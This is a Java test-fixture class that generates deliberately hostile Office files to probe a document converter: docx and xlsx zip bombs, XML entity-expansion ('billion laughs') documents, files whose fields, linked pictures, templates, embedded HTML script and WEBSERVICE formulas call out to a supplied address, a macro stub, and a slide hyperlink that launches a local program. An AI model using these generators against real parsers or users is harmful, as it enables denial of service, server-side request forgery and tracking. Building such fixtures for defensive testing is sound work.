package cn.banwen.rendition;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.function.UnaryOperator;
import java.util.zip.Deflater;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;

/** Office files that mean harm, written part by part. */
public final class HostileOffice {

    private static final String XML = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>";
    private static final String PACKAGE = "http://schemas.openxmlformats.org/package/2006/";
    private static final String RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
    private static final String WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.";
    private static final String SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.";
    private static final String WORD_ROOT =
            "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\" xmlns:r=\""
                    + "http://schemas.openxmlformats.org/officeDocument/2006/relationships\""
                    + " xmlns:v=\"urn:schemas-microsoft-com:vml\" xmlns:o=\"urn:schemas-microsoft-com:office:office\"><w:body>";
    private static final String WORD_END = "</w:body></w:document>";
    /** The picture that its relation r1 links to. */
    private static final String DRAWN_LINK = "<w:p><w:r><w:drawing><wp:inline"
            + " xmlns:wp=\"http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing\"><wp:extent"
            + " cx=\"900000\" cy=\"900000\"/><wp:docPr id=\"1\" name=\"p\"/><a:graphic"
            + " xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\"><a:graphicData"
            + " uri=\"http://schemas.openxmlformats.org/drawingml/2006/picture\"><pic:pic"
            + " xmlns:pic=\"http://schemas.openxmlformats.org/drawingml/2006/picture\"><pic:nvPicPr><pic:cNvPr"
            + " id=\"0\" name=\"p\"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:link=\"r1\"/><a:stretch>"
            + "<a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x=\"0\" y=\"0\"/><a:ext cx=\"900000\""
            + " cy=\"900000\"/></a:xfrm><a:prstGeom prst=\"rect\"><a:avLst/></a:prstGeom></pic:spPr></pic:pic>"
            + "</a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>";

    private static final String SHEET_ROOT =
            "<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">";

    private final Map<String, Part> parts = new LinkedHashMap<>();

    /** Bytes, so many times over between a beginning and an end. */
    private record Part(byte[] begin, byte[] repeated, int times, byte[] end) {}

    private HostileOffice() {}

    /** Unfolds to 500 MB of paragraphs. */
    public static byte[] docxBomb() throws IOException {
        return word().part(
                        "word/document.xml",
                        WORD_ROOT + paragraph("洪水"),
                        paragraph("洪水洪水洪水洪水洪水洪水洪水").repeat(1_000),
                        5_000,
                        WORD_END)
                .bytes();
    }

    /** Unfolds to 500 MB of cells. */
    public static byte[] xlsxBomb() throws IOException {
        return sheets().part(
                        "xl/worksheets/sheet1.xml",
                        SHEET_ROOT + "<sheetData>",
                        "<row><c t=\"inlineStr\"><is><t>洪水洪水洪水洪水洪水</t></is></c></row>".repeat(1_000),
                        7_000,
                        "</sheetData></worksheet>")
                .bytes();
    }

    /** Hardly any bytes, and a cell in the last corner of a million rows and all columns. */
    public static byte[] xlsxOfAMillionRows() throws IOException {
        return sheets().part(
                        "xl/worksheets/sheet1.xml",
                        SHEET_ROOT + "<dimension ref=\"A1:XFD1048576\"/><cols><col min=\"1\" max=\"16384\" width=\"80\""
                                + " customWidth=\"1\"/></cols><sheetData><row r=\"1\"><c r=\"A1\"><v>1</v></c></row>"
                                + "<row r=\"1048576\"><c r=\"XFD1048576\"><v>2</v></c></row></sheetData></worksheet>")
                .bytes();
    }

    /**
     * Linked pictures of the old and the new kind, an attached template, a field, an embedded page and an object, each of which
     * wants to be fetched. LibreOffice without our settings fetches the picture of the new kind nine times.
     */
    public static byte[] docxThatReachesOut(String address) throws IOException {
        String field = "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>INCLUDEPICTURE \""
                + address + "/field.png\" \\d</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>";
        String picture =
                "<w:p><w:r><w:pict><v:shape style=\"width:99pt;height:99pt\"><v:imagedata r:id=\"r1\"/></v:shape>"
                        + "</w:pict></w:r></w:p>";
        String object =
                "<w:p><w:r><w:object><v:shape id=\"s1\" style=\"width:99pt;height:99pt\"/><o:OLEObject Type=\"Link\""
                        + " ProgID=\"Word.Document.12\" ShapeID=\"s1\" r:id=\"r3\" UpdateMode=\"Always\"/></w:object></w:r></w:p>";
        return word().part(
                        "word/document.xml",
                        WORD_ROOT + paragraph("正文还在") + field + picture + DRAWN_LINK + object
                                + "<w:altChunk r:id=\"r2\"/>" + WORD_END)
                .part(
                        "word/_rels/document.xml.rels",
                        relations(
                                relation("r1", "image", address + "/picture.png", true),
                                relation("r2", "aFChunk", "chunk.html", false),
                                relation("r3", "oleObject", address + "/object.docx", true),
                                relation("r4", "settings", "settings.xml", false)))
                .part(
                        "word/chunk.html",
                        "<html><head><script src=\"" + address + "/s.js\"></script><link rel=\"stylesheet\" href=\""
                                + address
                                + "/s.css\"/></head><body><img src=\"" + address
                                + "/chunk.png\"/>嵌入的网页</body></html>")
                .part(
                        "word/settings.xml",
                        "<w:settings xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\" xmlns:r=\""
                                + "http://schemas.openxmlformats.org/officeDocument/2006/relationships\">"
                                + "<w:attachedTemplate r:id=\"r1\"/></w:settings>")
                .part(
                        "word/_rels/settings.xml.rels",
                        relations(relation("r1", "attachedTemplate", address + "/template.dotm", true)))
                .bytes();
    }

    /** Entities that name one another ten times, ten times over. */
    public static byte[] docxThatMultiplies() throws IOException {
        StringBuilder types = new StringBuilder("<!DOCTYPE w [<!ENTITY a0 \"洪水洪水洪水洪水洪水\">");
        for (int i = 1; i < 12; i++) {
            types.append("<!ENTITY a%d \"%s\">".formatted(i, ("&a" + (i - 1) + ";").repeat(10)));
        }
        return word().part("word/document.xml", types + "]>" + WORD_ROOT + paragraph("&a11;") + WORD_END)
                .bytes();
    }

    /** The same beyond the part that intake reads, in a workbook, which it doesn't read at all. */
    public static byte[] xlsxThatMultiplies() throws IOException {
        StringBuilder types = new StringBuilder("<!DOCTYPE w [<!ENTITY a0 \"洪水洪水洪水洪水洪水\">");
        for (int i = 1; i < 12; i++) {
            types.append("<!ENTITY a%d \"%s\">".formatted(i, ("&a" + (i - 1) + ";").repeat(10)));
        }
        return sheets().part(
                        "xl/worksheets/sheet1.xml",
                        types + "]>" + SHEET_ROOT
                                + "<sheetData><row><c t=\"inlineStr\"><is><t>&a11;</t></is></c></row></sheetData></worksheet>")
                .bytes();
    }

    /** Formulas that fetch, and a link to another workbook. */
    public static byte[] xlsxThatReachesOut(String address) throws IOException {
        return sheets().part(
                        "xl/worksheets/sheet1.xml",
                        SHEET_ROOT + "<sheetData><row><c><f>_xlfn.WEBSERVICE(\"" + address
                                + "/f\")</f><v>0</v></c><c><f>[1]Sheet1!A1</f><v>7</v></c></row></sheetData></worksheet>")
                .part(
                        "xl/externalLinks/externalLink1.xml",
                        "<externalLink xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" xmlns:r=\""
                                + "http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><externalBook"
                                + " r:id=\"r1\"><sheetNames><sheetName val=\"Sheet1\"/></sheetNames></externalBook>"
                                + "</externalLink>")
                .part(
                        "xl/externalLinks/_rels/externalLink1.xml.rels",
                        relations(relation("r1", "externalLinkPath", address + "/book.xlsx", true)))
                .bytes();
    }

    /** A document with a module of macros that open with it. */
    public static byte[] docxWithMacros() throws IOException {
        return word().part("word/document.xml", WORD_ROOT + paragraph("请启用宏") + WORD_END)
                .part("word/vbaProject.bin", "Sub AutoOpen()")
                .bytes();
    }

    /** A real presentation whose slide runs programs, scripts and a picture from elsewhere. */
    public static byte[] pptxWithScripts(String address) throws Exception {
        String action = "<p:pic xmlns:p=\"http://schemas.openxmlformats.org/presentationml/2006/main\""
                + " xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\" xmlns:r=\""
                + "http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><p:nvPicPr><p:cNvPr id=\"99\""
                + " name=\"p\"><a:hlinkClick r:id=\"r98\" action=\"ppaction://program\"/></p:cNvPr><p:cNvPicPr/><p:nvPr/>"
                + "</p:nvPicPr><p:blipFill><a:blip r:link=\"r99\"/><a:stretch><a:fillRect/></a:stretch></p:blipFill><p:spPr>"
                + "<a:xfrm><a:off x=\"0\" y=\"0\"/><a:ext cx=\"900000\" cy=\"900000\"/></a:xfrm><a:prstGeom"
                + " prst=\"rect\"/></p:spPr></p:pic>";
        return changed(
                SampleSheets.office("pptx", "演示文稿还在"),
                Map.of(
                        "ppt/slides/slide1.xml", xml -> xml.replace("</p:spTree>", action + "</p:spTree>"),
                        "ppt/slides/_rels/slide1.xml.rels",
                                xml -> xml.replace(
                                        "</Relationships>",
                                        relation("r99", "image", address + "/slide.png", true)
                                                + relation("r98", "hyperlink", "file:///bin/touch", true)
                                                + "</Relationships>")));
    }

    private static byte[] changed(byte[] zip, Map<String, UnaryOperator<String>> changes) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(zip));
                ZipOutputStream out = new ZipOutputStream(bytes)) {
            for (ZipEntry entry = in.getNextEntry(); entry != null; entry = in.getNextEntry()) {
                byte[] content = in.readAllBytes();
                UnaryOperator<String> change = changes.get(entry.getName());
                out.putNextEntry(new ZipEntry(entry.getName()));
                out.write(
                        change == null
                                ? content
                                : change.apply(new String(content, StandardCharsets.UTF_8))
                                        .getBytes(StandardCharsets.UTF_8));
                out.closeEntry();
            }
        }
        return bytes.toByteArray();
    }

    private static HostileOffice word() {
        return new HostileOffice()
                .part(
                        "[Content_Types].xml",
                        types(
                                "<Default Extension=\"html\" ContentType=\"text/html\"/>",
                                override("/word/document.xml", WORD + "document.main+xml"),
                                override("/word/settings.xml", WORD + "settings+xml")))
                .part("_rels/.rels", relations(relation("r1", "officeDocument", "word/document.xml", false)));
    }

    private static HostileOffice sheets() {
        return new HostileOffice()
                .part(
                        "[Content_Types].xml",
                        types(
                                override("/xl/workbook.xml", SHEET + "sheet.main+xml"),
                                override("/xl/worksheets/sheet1.xml", SHEET + "worksheet+xml"),
                                override("/xl/externalLinks/externalLink1.xml", SHEET + "externalLink+xml")))
                .part("_rels/.rels", relations(relation("r1", "officeDocument", "xl/workbook.xml", false)))
                .part(
                        "xl/workbook.xml",
                        "<workbook xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" xmlns:r=\""
                                + "http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><sheets><sheet"
                                + " name=\"表\" sheetId=\"1\" r:id=\"r1\"/></sheets><externalReferences><externalReference"
                                + " r:id=\"r2\"/></externalReferences></workbook>")
                .part(
                        "xl/_rels/workbook.xml.rels",
                        relations(
                                relation("r1", "worksheet", "worksheets/sheet1.xml", false),
                                relation("r2", "externalLink", "externalLinks/externalLink1.xml", false)));
    }

    private static String paragraph(String text) {
        return "<w:p><w:r><w:t>" + text + "</w:t></w:r></w:p>";
    }

    private static String types(String... entries) {
        return "<Types xmlns=\"" + PACKAGE + "content-types\"><Default Extension=\"rels\" ContentType=\""
                + "application/vnd.openxmlformats-package.relationships+xml\"/>" + String.join("", entries)
                + "</Types>";
    }

    private static String override(String part, String type) {
        return "<Override PartName=\"" + part + "\" ContentType=\"" + type + "\"/>";
    }

    private static String relations(String... relations) {
        return "<Relationships xmlns=\"" + PACKAGE + "relationships\">" + String.join("", relations)
                + "</Relationships>";
    }

    private static String relation(String id, String type, String target, boolean external) {
        return "<Relationship Id=\"" + id + "\" Type=\"" + RELATION + type + "\" Target=\"" + target + "\""
                + (external ? " TargetMode=\"External\"" : "") + "/>";
    }

    private HostileOffice part(String name, String content) {
        return part(name, content, "", 0, "");
    }

    private HostileOffice part(String name, String begin, String repeated, int times, String end) {
        String whole = name.endsWith(".html") || name.endsWith(".bin") ? begin : XML + begin;
        parts.put(name, new Part(utf8(whole), utf8(repeated), times, utf8(end)));
        return this;
    }

    private byte[] bytes() throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            zip.setLevel(Deflater.BEST_SPEED);
            for (Map.Entry<String, Part> entry : parts.entrySet()) {
                Part part = entry.getValue();
                zip.putNextEntry(new ZipEntry(entry.getKey()));
                zip.write(part.begin());
                for (int i = 0; i < part.times(); i++) {
                    zip.write(part.repeated());
                }
                zip.write(part.end());
                zip.closeEntry();
            }
        }
        return bytes.toByteArray();
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }
}
